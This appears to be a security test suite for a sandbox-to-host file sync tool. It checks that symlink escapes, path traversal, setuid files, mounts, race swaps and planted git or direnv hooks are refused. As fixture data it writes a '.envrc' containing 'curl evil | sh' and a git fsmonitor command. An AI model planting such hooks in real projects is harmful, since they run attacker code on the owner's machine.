"""Applying a sandbox's project changes to the host (``ringfence.projects.sync``): a
partial sync applies exactly the chosen changes, as the directory's owner, and the attacks
a hostile sandbox (or a host user racing it) can mount all fail closed: links out, ``..``,
absolute paths, hard links, special files, setuid bits, mounts inside the project, a
symlink swapped in on the host during the sync."""

from __future__ import annotations

import ctypes
import os
import stat
import subprocess
import threading
import time

import pytest
from pydantic import ValidationError

from ringfence import projects
from ringfence.models import ProjectSyncRequest
from ringfence.projects import _fs
from tests.projects.conftest import View, remount

OWNER = 4242
_libc = ctypes.CDLL(None, use_errno=True)
_AT_FDCWD = -100


def _owned_project(view: View) -> None:
    os.chown(view.host, OWNER, OWNER)
    (view.host / "a.txt").write_text("a\n")
    (view.host / "b.txt").write_text("b\n")
    (view.host / "gone.txt").write_text("gone\n")
    (view.host / "sub").mkdir()
    (view.host / "sub/c.txt").write_text("c\n")
    for path in view.host.rglob("*"):
        os.chown(path, OWNER, OWNER, follow_symlinks=False)


def _outside_untouched(view: View) -> None:
    assert sorted(p.name for p in view.outside.iterdir()) == ["keep"]
    assert (view.outside / "keep").read_text() == "keep\n"


@pytest.fixture
def project(view: View) -> View:
    _owned_project(view)
    (view.outside / "keep").write_text("keep\n")
    return view


def test_a_partial_sync_applies_only_the_chosen_files_as_the_owner(project: View) -> None:
    merged = project.merged
    (merged / "a.txt").write_text("A\n")
    (merged / "b.txt").write_text("B\n")
    (merged / "gone.txt").unlink()
    (merged / "new/deep").mkdir(parents=True)
    (merged / "new/deep/n.txt").write_text("n\n")
    (merged / "new/other.txt").write_text("o\n")

    applied, refused = projects.sync(project.upper, project.host, ["a.txt", "new/deep", "nope"])

    assert [(c.path, c.action) for c in applied] == [
        ("a.txt", "modified"), ("new/deep", "added"), ("new/deep/n.txt", "added"),
    ]  # fmt: skip
    assert [(r.path, r.reason) for r in refused] == [("nope", "no change at this path")]
    assert (project.host / "a.txt").read_text() == "A\n"
    assert (project.host / "b.txt").read_text() == "b\n"  # not chosen: unchanged
    assert (project.host / "gone.txt").exists()
    assert not (project.host / "new/other.txt").exists()
    for path in ("a.txt", "new", "new/deep", "new/deep/n.txt"):
        st = (project.host / path).lstat()
        assert (st.st_uid, st.st_gid) == (OWNER, OWNER), path
    assert not [p for p in project.host.rglob(".rf-sync-*")]

    applied, refused = projects.sync(project.upper, project.host, None)
    assert {c.path for c in applied} == {"b.txt", "gone.txt", "new/other.txt"}
    assert refused == []
    assert not (project.host / "gone.txt").exists()
    assert projects.diff(project.upper, project.host) == ([], False)


def test_path_arguments_outside_the_project_are_refused() -> None:
    for bad in ("../x", "/etc/passwd", "a/../../x", "", "a\0b"):
        with pytest.raises(ValidationError):
            ProjectSyncRequest(paths=[bad])
    assert ProjectSyncRequest(paths=["./a//b/"]).paths == ["a/b"]


def test_links_leading_out_are_refused_and_links_inside_are_kept(project: View) -> None:
    merged = project.merged
    os.symlink(str(project.outside / "keep"), merged / "absolute")
    os.symlink("../outside/keep", merged / "up")
    os.symlink("../../x", merged / "sub/up2")
    os.symlink("sub/c.txt", merged / "inside")

    applied, refused = projects.sync(project.upper, project.host, None)

    assert [c.path for c in applied] == ["inside"]
    assert {r.path for r in refused} == {"absolute", "up", "sub/up2"}
    assert os.readlink(project.host / "inside") == "sub/c.txt"
    assert os.lstat(project.host / "inside").st_uid == OWNER
    _outside_untouched(project)


def test_special_files_and_setuid_bits_are_never_made(project: View) -> None:
    merged = project.merged
    os.mkfifo(merged / "fifo")
    (merged / "suid").write_text("#!/bin/sh\n")
    os.chmod(merged / "suid", 0o4755)
    (merged / "sgid").write_text("x")
    os.chmod(merged / "sgid", 0o2755)
    os.mknod(project.upper / "dev", stat.S_IFCHR | 0o600, os.makedev(1, 3))  # /dev/null

    applied, refused = projects.sync(project.upper, project.host, None)

    assert applied == []
    assert {r.path for r in refused} == {"fifo", "suid", "sgid", "dev"}
    assert sorted(p.name for p in project.host.iterdir()) == ["a.txt", "b.txt", "gone.txt", "sub"]


def test_a_hard_link_on_the_host_to_an_outside_file_is_replaced_not_written(
    project: View,
) -> None:
    (project.host / "a.txt").unlink()
    os.link(project.outside / "keep", project.host / "a.txt")
    remount(project)
    (project.merged / "a.txt").write_text("overwritten\n")

    applied, _ = projects.sync(project.upper, project.host, ["a.txt"])

    assert [c.path for c in applied] == ["a.txt"]
    assert (project.host / "a.txt").read_text() == "overwritten\n"
    _outside_untouched(project)


def test_a_file_with_many_names_in_the_layer_is_written_once(project: View) -> None:
    # The attack: one 4 MiB file linked 25 times was 25 copies on the host (a 32 MiB file
    # and 50,000 links: 1.6 TB). Each of the layer's files is written once now; a hard
    # link is never made on the host, so its other names are refused.
    (project.merged / "one").write_bytes(b"1" * (1 << 20))
    for index in range(25):
        os.link(project.merged / "one", project.merged / f"two{index:02}")
    applied, refused = projects.sync(project.upper, project.host, None)
    assert [c.path for c in applied] == ["one"]
    assert len(refused) == 25 and all("written once" in r.reason for r in refused)
    assert (project.host / "one").stat().st_nlink == 1
    applied, _ = projects.sync(project.upper, project.host, ["two07"])  # chosen alone: fine
    assert [c.path for c in applied] == ["two07"]


def test_a_sparse_file_stays_sparse_on_the_host(project: View) -> None:
    # The attack: 'truncate -s 1T' takes nothing of the sandbox's tmpfs; the sync wrote
    # every byte of it. Holes are kept now. (256 MiB here, so the old copy fails the
    # blocks assertion without filling the test host's disk.)
    with open(project.merged / "big.bin", "wb") as big:
        big.truncate(256 << 20)
        big.seek(128 << 20)
        big.write(b"data")
    started = time.monotonic()
    applied, refused = projects.sync(project.upper, project.host, None)
    assert [c.path for c in applied] == ["big.bin"] and refused == []
    st = (project.host / "big.bin").stat()
    assert st.st_size == 256 << 20 and st.st_blocks * 512 <= 1 << 20
    with open(project.host / "big.bin", "rb") as synced:
        synced.seek(128 << 20)
        assert synced.read(4) == b"data"
    assert time.monotonic() - started < 5


def test_one_sync_writes_no_more_data_than_the_disk_limit(project: View) -> None:
    for index in range(6):
        (project.merged / f"f{index}.bin").write_bytes(os.urandom(1 << 20))
    applied, refused = projects.sync(project.upper, project.host, None, max_bytes=3 << 20)
    assert [c.path for c in applied] == ["f0.bin", "f1.bin", "f2.bin"]
    assert [r.path for r in refused] == ["f3.bin", "f4.bin", "f5.bin"]
    assert all("disk limit" in r.reason for r in refused)
    assert not (project.host / "f3.bin").exists()
    assert not [p for p in project.host.rglob(".rf-sync-*")]


def test_a_host_parent_that_is_a_link_out_refuses_the_change(project: View) -> None:
    (project.merged / "sub/c.txt").write_text("C\n")
    (project.merged / "sub/new.txt").write_text("new\n")
    # The host's user (or a race) puts a link where the directory was.
    os.rename(project.host / "sub", project.host / "sub-moved")
    os.symlink(str(project.outside), project.host / "sub")

    applied, refused = projects.sync(project.upper, project.host, ["sub/c.txt", "sub/new.txt"])

    assert applied == []
    assert [r.path for r in refused] == ["sub/c.txt", "sub/new.txt"]
    assert "link" in refused[0].reason
    _outside_untouched(project)
    # Chosen too, the directory replaces the link (the link, not what it points at).
    applied, refused = projects.sync(project.upper, project.host, ["sub"])
    assert [c.path for c in applied] == ["sub", "sub/c.txt", "sub/new.txt"]
    assert not (project.host / "sub").is_symlink()
    _outside_untouched(project)


def test_a_deleted_directory_whose_host_path_is_now_a_link_removes_only_the_link(
    project: View,
) -> None:
    import shutil

    shutil.rmtree(project.merged / "sub")
    os.rename(project.host / "sub", project.host / "sub-moved")
    os.symlink(str(project.outside), project.host / "sub")

    projects.sync(project.upper, project.host, ["sub"])

    assert not os.path.lexists(project.host / "sub")
    _outside_untouched(project)


def test_a_mount_inside_the_project_is_never_written_or_removed(project: View) -> None:
    import shutil

    (project.merged / "sub/c.txt").write_text("C\n")
    subprocess.run(["mount", "--bind", str(project.outside), str(project.host / "sub")],
                   check=True)  # fmt: skip
    try:
        applied, refused = projects.sync(project.upper, project.host, None)
        assert [r.path for r in refused] == ["sub/c.txt"]
        assert "mounted" in refused[0].reason
        shutil.rmtree(project.merged / "sub", ignore_errors=True)
        applied, refused = projects.sync(project.upper, project.host, ["sub"])
        assert applied == [] and [r.path for r in refused] == ["sub"]
    finally:
        subprocess.run(["umount", str(project.host / "sub")], check=True)
    _outside_untouched(project)


def test_what_the_owner_may_not_change_stays(project: View) -> None:
    import shutil

    theirs = project.host / "theirs"
    theirs.mkdir()
    (theirs / "f").write_text("root's\n")
    theirs.chmod(0o755)  # root's, inside the owner's project
    remount(project)
    shutil.rmtree(project.merged / "theirs", ignore_errors=True)
    if (project.merged / "theirs").exists():  # the test runs as root: it could
        pytest.fail("the view should let root remove it")

    applied, refused = projects.sync(project.upper, project.host, ["theirs"])

    assert applied == [] and refused[0].path == "theirs"
    assert (theirs / "f").read_text() == "root's\n"


def test_a_symlink_swapped_in_during_syncs_never_leads_out(project: View) -> None:
    for index in range(20):
        (project.merged / "sub" / f"f{index}.txt").write_text("in\n")
    (project.merged / "sub/c.txt").unlink()
    stop = threading.Event()
    sub, link = str(project.host / "sub"), str(project.host / "sub-link")
    os.symlink(str(project.outside), link)
    swaps = 0

    def swap() -> None:  # "sub" is the directory, then a link out, then the directory...
        nonlocal swaps
        while not stop.is_set():
            if _libc.renameat2(_AT_FDCWD, sub.encode(), _AT_FDCWD, link.encode(), 2) != 0:
                raise OSError(ctypes.get_errno(), "renameat2")
            swaps += 1

    swapper = threading.Thread(target=swap)
    swapper.start()
    try:
        for _ in range(200):
            projects.sync(project.upper, project.host, ["sub/f3.txt", "sub/c.txt"])
    finally:
        stop.set()
        swapper.join()
    assert swaps > 0
    _outside_untouched(project)


def test_links_with_dots_after_a_name_are_refused(project: View) -> None:
    os.symlink("x/../../outside/keep", project.merged / "sub/weird")  # x may be a link
    os.symlink("../a.txt", project.merged / "sub/up-one")  # climbs a real directory only
    applied, refused = projects.sync(project.upper, project.host, None)
    assert [c.path for c in applied] == ["sub/up-one"]
    assert [r.path for r in refused] == ["sub/weird"]
    assert os.readlink(project.host / "sub/up-one") == "../a.txt"


def test_a_host_file_edited_after_the_sync_read_it_is_never_overwritten(
    project: View, monkeypatch: pytest.MonkeyPatch
) -> None:
    from ringfence.projects import _sync

    (project.merged / "a.txt").write_text("the sandbox's\n")
    (project.merged / "b.txt").unlink()
    (project.merged / "new.txt").write_text("new\n")
    real = _sync.read_changes

    def then_the_host_edits(*args: object) -> object:
        changes = real(*args)  # type: ignore[arg-type]
        (project.host / "a.txt").write_text("the host's newer edit\n")
        (project.host / "b.txt").write_text("b, edited\n")
        (project.host / "new.txt").write_text("made on the host meanwhile\n")
        return changes

    monkeypatch.setattr(_sync, "read_changes", then_the_host_edits)
    applied, refused = projects.sync(project.upper, project.host, None)

    assert applied == []
    assert [r.path for r in refused] == ["a.txt", "b.txt", "new.txt"]
    assert all("changed on the host" in r.reason for r in refused)
    assert (project.host / "a.txt").read_text() == "the host's newer edit\n"
    assert (project.host / "b.txt").read_text() == "b, edited\n"
    assert (project.host / "new.txt").read_text() == "made on the host meanwhile\n"


def test_paths_the_host_runs_are_synced_only_when_named_with_the_opt_in(project: View) -> None:
    # The attack: a full sync of '.git/config' with core.fsmonitor (or a hook) runs the
    # sandbox's command at the owner's next 'git status' on the host.
    (project.host / ".git/hooks").mkdir(parents=True)
    (project.host / ".git/config").write_text("[core]\n")
    for path in project.host.rglob("*"):
        os.chown(path, OWNER, OWNER, follow_symlinks=False)
    remount(project)
    (project.merged / ".git/config").write_text('[core]\n\tfsmonitor = "touch /tmp/x"\n')
    (project.merged / ".git/hooks/post-checkout").write_text("#!/bin/sh\n")
    (project.merged / ".GIT").mkdir()  # case-folded: .git on a case-insensitive tool
    (project.merged / "sub/.envrc").write_text("curl evil | sh\n")
    (project.merged / ".vscode").mkdir()
    (project.merged / ".vscode/tasks.json").write_text("{}\n")
    (project.merged / "a.txt").write_text("A\n")
    sensitive = {
        ".GIT", ".git/config", ".git/hooks/post-checkout", ".vscode", ".vscode/tasks.json",
        "sub/.envrc",
    }  # fmt: skip

    changes, _ = projects.diff(project.upper, project.host)
    assert {c.path for c in changes if c.sensitive} == sensitive
    assert not next(c for c in changes if c.path == "a.txt").sensitive

    for paths, opt_in in ((None, False), (None, True), (["sub", ".git"], False),
                          (["sub", "."], True)):  # fmt: skip
        applied, refused = projects.sync(project.upper, project.host, paths, opt_in)
        assert not {c.path for c in applied} & sensitive, (paths, opt_in)
        if paths is None:
            assert sensitive <= {r.path for r in refused}
        assert all("include_sensitive" in r.reason for r in refused if r.path in sensitive)
    assert (project.host / ".git/config").read_text() == "[core]\n"
    assert not (project.host / ".git/hooks/post-checkout").exists()
    assert not (project.host / "sub/.envrc").exists()
    assert (project.host / "a.txt").read_text() == "A\n"  # the rest was applied

    applied, refused = projects.sync(
        project.upper, project.host, [".git/config", ".vscode"], include_sensitive=True
    )
    assert {c.path for c in applied} == {".git/config", ".vscode", ".vscode/tasks.json"}
    assert "fsmonitor" in (project.host / ".git/config").read_text()
    assert not (project.host / ".git/hooks/post-checkout").exists()


def test_world_writable_modes_are_never_made_on_the_host(project: View) -> None:
    # The attack: a sandbox makes the owner's files and directories 0666/0777, so any
    # local user of the host could write into the checkout after a sync.
    (project.merged / "open/deeper").mkdir(parents=True)
    (project.merged / "open/deeper/f.txt").write_text("f\n")
    (project.merged / "a.txt").write_text("A\n")
    for path, mode in (("open", 0o777), ("open/deeper", 0o777), ("open/deeper/f.txt", 0o666),
                       ("a.txt", 0o776)):  # fmt: skip
        os.chmod(project.merged / path, mode)
    projects.sync(project.upper, project.host, ["open/deeper/f.txt"])  # parents made on the way
    projects.sync(project.upper, project.host, ["a.txt"])
    for path, mode in (("open", 0o755), ("open/deeper", 0o755), ("open/deeper/f.txt", 0o644),
                       ("a.txt", 0o754)):  # fmt: skip
        assert stat.S_IMODE((project.host / path).stat().st_mode) == mode, path


def test_the_cli_shows_no_control_character_of_a_diff() -> None:
    from ringfence.cli.sandbox_project import printable, render_diff
    from ringfence.models import ProjectChange, ProjectDiff

    hidden = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\r\n+b\rhidden\x1b[1A\x1b[2K\x9b\u202e\n"
    found = ProjectDiff(source="/s", path="/p", changes=[
        ProjectChange(path="x", action="modified", kind="file", diff=hidden),
    ])  # fmt: skip
    shown = printable(render_diff(found))
    assert "\x1b" not in shown and "\x9b" not in shown and "\u202e" not in shown
    assert "+b\\u000dhidden\\u001b[1A\\u001b[2K\\u009b\\u202e\n" in shown
    assert "-a\r\n" in shown  # a line's own CRLF ending is left as it is


def test_a_sync_of_many_deep_changes_opens_each_host_directory_once(
    project: View, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The attack (C2, sync's half): each change's parents were opened again from the
    # project's root, so 500 files at depth 256 cost 128,000 lookups, and the cap's worth
    # of entries hours. The parents the last change went in are kept open now.
    deep = project.upper
    for _ in range(255):
        deep = deep / "d"
    deep.mkdir(parents=True)
    for index in range(500):
        (deep / f"f{index}").write_text("x")
    looked = []
    real = _fs.lstat_at
    monkeypatch.setattr(_fs, "lstat_at", lambda *a: looked.append(a) or real(*a))
    applied, refused = projects.sync(project.upper, project.host, None)
    assert len(applied) == 755 and refused == []
    assert len(looked) < 5 * 755  # linear: not 500 x 255
    assert (project.host / "/".join(["d"] * 255) / "f499").read_text() == "x"
